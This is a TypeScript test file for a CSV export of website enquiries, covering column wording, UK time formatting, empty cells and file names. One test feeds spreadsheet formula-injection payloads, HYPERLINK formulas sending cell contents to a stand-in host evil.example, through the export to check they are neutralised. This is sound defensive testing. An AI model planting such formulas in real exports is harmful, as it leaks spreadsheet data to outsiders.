import { stringify } from 'csv-stringify/sync';
import { describe, expect, it } from 'vitest';
import { type ExportedEnquiry, enquiryColumns } from '@/enquiries/data/enquiry-columns';
import { cellsOf, csvFileName, headerOf } from '@/platform/csv-table';

const csvHeader = headerOf(enquiryColumns);
const csvRow = (row: ExportedEnquiry) => cellsOf(enquiryColumns, row);

const enquiry: ExportedEnquiry = {
  createdAt: '2026-06-30T23:15:00.000Z',
  name: 'Priya Nair',
  email: 'priya@nair.example',
  projectType: 'new_website',
  message: 'A website, please.',
  status: 'new',
  channel: 'form',
};

const cells = (changes: Partial<ExportedEnquiry>) => {
  const row = csvRow({ ...enquiry, ...changes });
  return Object.fromEntries(csvHeader.map((header, index) => [header, row[index]]));
};

describe('a row', () => {
  it('has a cell for each column', () => {
    expect(csvRow(enquiry)).toHaveLength(csvHeader.length);
    expect(new Set(csvHeader).size).toBe(csvHeader.length);
  });

  it('words stored values, and shows UK time', () => {
    expect(
      cells({
        industry: 'trades_construction',
        referralSource: 'google_search',
        status: 'proposal',
        dueAt: '2026-11-23T14:00:00.000Z',
        workEndedOn: '2026-05-31T23:00:00.000Z',
        estimate: { totalPence: 170_050 },
        order: { kind: 'technical-report', pricePence: 9_700 },
      }),
    ).toMatchObject({
      Received: '2026-07-01 00:15',
      Project: 'New website',
      Industry: 'Trades and construction',
      'Heard of us through': 'Google search',
      Status: 'Proposal sent',
      'Answer due': '2026-11-23 14:00',
      'Work together ended on': '2026-06-01',
      'Estimate in £': '1700.50',
      Ordered: 'Technical report',
      'Price of the order in £': '97.00',
      'Came by': 'Form on the site',
    });
  });

  it('leaves a cell empty without a value', () => {
    const row = cells({ industry: null, dueAt: null, estimate: {}, notes: undefined });
    for (const header of ['Industry', 'Answer due', 'Estimate in £', 'Notes', 'Reference']) {
      expect(row[header], header).toBe('');
    }
  });

  it('keeps a value that is no longer an option', () => {
    expect(cells({ projectType: 'mobile_app' as 'web_app' }).Project).toBe('mobile_app');
  });
});

describe('text that a spreadsheet would execute as a formula', () => {
  const formulas = ['=', '+', '-', '@', '\t=', '\r=', ' =', '\n=', '＝'].map((start) => [
    `${start}HYPERLINK("https://evil.example?"&A1,"x")`,
  ]);

  it.each(formulas)('is neutralised: %j', (text) => {
    const row = csvRow({ ...enquiry, name: text, message: text, notes: text });
    const csv = stringify([row], { escape_formulas: true });
    expect(csv).not.toMatch(/(^|,|")\s*[=+\-@＝]/);
    expect(csv.match(/"'/g)).toHaveLength(3);
  });
});

it('the file name has the UK date', () => {
  expect(csvFileName('enquiries', new Date('2026-06-30T23:15:00Z'))).toBe(
    'enquiries-2026-07-01.csv',
  );
});
